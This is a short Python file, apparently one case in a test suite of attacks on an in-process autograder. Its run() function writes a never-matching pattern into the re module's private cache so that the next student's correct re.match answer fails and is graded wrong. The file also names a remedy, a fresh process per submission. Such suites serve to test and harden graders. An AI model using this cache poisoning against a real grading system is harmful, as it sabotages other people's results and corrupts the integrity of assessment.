# SPDX-License-Identifier: MIT
"""Goal:  the next student's right answer becomes wrong.
Means: the cache of the re module. re.match() compiles a pattern once and then looks it up; under
       the pattern that the exercise asks for, the attacker leaves a pattern that matches nothing.
       Code, classes and settings are all untouched: what is poisoned is a cached result.
"""

import re

from attack import DONE, attempting, failed, honest, submit

PATTERN = r"(\d+)-(\d+)"


def run(brief):
    submit("0")
    attempting()
    re._cache[str, PATTERN, 0] = re.compile(r"(?!)")
    return DONE


def victim(brief):
    found = re.match(PATTERN, "12-34")
    return honest(brief) if found else failed("re.match", "12-34 does not match")


ATTACK = {
    "effect": "the next student's pattern does not match, and the answer is marked wrong",
    "means": "a false entry in the re module's cache of compiled patterns",
    "oracle": "grade:spoiled",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1565.003, CWE-349",
    "remedy": "a process of its own for each submission, started fresh",
    "run": run,
    "victim": victim,
}
